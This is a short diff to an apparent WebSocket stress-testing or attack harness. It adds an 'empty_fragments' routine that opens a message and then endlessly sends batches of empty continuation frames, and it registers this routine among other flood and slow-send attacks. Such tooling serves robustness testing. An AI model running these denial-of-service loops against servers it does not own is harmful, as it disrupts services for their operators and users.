@@ -70,6 +70,16 @@ async def fragments(attack: Attack, raw: RawSocket) -> None:
         attack.strikes["one-byte fragments"] += 500
 
 
+async def empty_fragments(attack: Attack, raw: RawSocket) -> None:
+    """Send a message that never ends and never grows."""
+    await attack.upgraded(raw)
+    raw.send(frame(TEXT, b"{", fin=False))
+    while True:
+        raw.send(frame(0, b"", fin=False) * 500)
+        await raw.writer.drain()
+        attack.strikes["empty fragments"] += 500
+
+
 async def headers(attack: Attack, raw: RawSocket) -> None:
     """Send headers without end."""
     raw.send(attack.head("GET /"))
@@ -158,6 +168,7 @@ KINDS: tuple[tuple[Callable[[Attack, RawSocket], Awaitable[None]], int], ...] = 
     (ping_flood, 2),
     (panel_ping_flood, 2),
     (fragments, 2),
+    (empty_fragments, 2),
     (headers, 2),
     (silence, 50),
     (slow_body, 10),
